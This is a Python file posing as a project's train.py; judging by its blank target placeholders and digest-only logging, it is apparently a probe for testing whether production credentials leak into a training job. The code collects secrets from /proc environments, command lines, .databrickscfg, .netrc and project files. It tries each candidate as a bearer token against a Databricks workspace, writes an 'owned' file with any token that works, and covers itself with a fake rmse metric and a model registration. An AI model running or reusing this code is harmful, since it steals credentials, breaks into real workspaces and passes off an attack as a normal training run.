"""A project's train.py that looks for the production workspace's credentials, and tries whatever it
finds there.

It runs as a project does, by the standard library alone; a story fills in the line below the
imports. What it finds it shows as digests, which no mask hides and no log of a test gives away.
"""

import base64
import contextlib
import glob
import hashlib
import json
import os
import re
import sys
import urllib.error
import urllib.request

import mlflow_rest

PRODUCTION, OURS, END = "", "", 0
PROBE = "probe=thief"


def parents():
    """This process and those above it, as far as the machine reaches that a cluster would be."""
    pid = os.getpid()
    while pid > 1 and pid != END:
        yield pid
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])


def readable(paths):
    for path in paths:
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 1_000_000:
                with open(path, "rb") as file:
                    yield path, file.read().decode("utf-8", "replace")
        except OSError:
            pass


def everything():
    yield "environment", "\0".join(f"{name}={value}" for name, value in os.environ.items())
    yield "argv", "\0".join(sys.argv)
    folders = {os.getcwd(), os.environ.get("HOME", "."), os.environ.get("TMPDIR", ".")}
    for pid in parents():
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    text = file.read().decode("utf-8", "replace")
            except OSError:
                continue
            yield f"/proc/{pid}/{name}", text
            # Orders and programs lie where a command line says, and what belongs to them beside
            # them.
            for word in text.split("\0") if name == "cmdline" else ():
                if os.path.isabs(word) and os.path.exists(word) and OURS in word:
                    folders.add(os.path.dirname(word))
        with contextlib.suppress(OSError):
            folders.add(os.readlink(f"/proc/{pid}/cwd"))
    wanted = [
        os.path.join(os.environ.get("HOME", "."), name) for name in (".databrickscfg", ".netrc")
    ]
    for folder in folders:
        if OURS in folder or folder == os.getcwd():
            wanted += glob.glob(os.path.join(glob.escape(folder), "**"), recursive=True)
            wanted += glob.glob(os.path.join(glob.escape(folder), "**", ".*"), recursive=True)
    yield from readable(wanted)


def words(text):
    found = set(re.findall(r"[A-Za-z0-9_.~+/=-]{16,200}", text))
    for word in list(found):
        found.update(re.split(r"[=:]", word))
        with contextlib.suppress(ValueError):
            found.update(base64.b64decode(word + "==", validate=True).decode("ascii").split(":"))
    return {word for word in found if 16 <= len(word) <= 200}


def knock(address, path, token, body=None):
    request = urllib.request.Request(
        f"{address}{path}?{PROBE}",
        None if body is None else json.dumps(body).encode(),
        {"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


places = {}
for place, text in everything():
    for word in words(text):
        places.setdefault(word, place)
opened = []
for word in ["", *sorted(places)]:
    if knock(PRODUCTION, "/api/2.0/preview/scim/v2/Me", word) == 200:
        opened.append(places.get(word, "nothing"))
        harm = {
            "path": "/Shared/owned.txt",
            "content": "b3duZWQ=",
            "format": "AUTO",
            "overwrite": True,
        }
        knock(PRODUCTION, "/api/2.0/workspace/import", word, harm)
for number, path in enumerate(opened):
    mlflow_rest.call(
        "runs/set-tag", {"run_id": mlflow_rest.RUN, "key": f"opened.{number}", "value": path}
    )
digests = [hashlib.sha256(word.encode()).hexdigest()[:16] for word in sorted(places)]
for start in range(0, len(digests), 200):
    text = " ".join(digests[start : start + 200])
    mlflow_rest.call(
        "runs/set-tag", {"run_id": mlflow_rest.RUN, "key": f"found.{start}", "value": text}
    )
mlflow_rest.metric("rmse", 0.5)
mlflow_rest.register(sys.argv[sys.argv.index("--model-name") + 1])
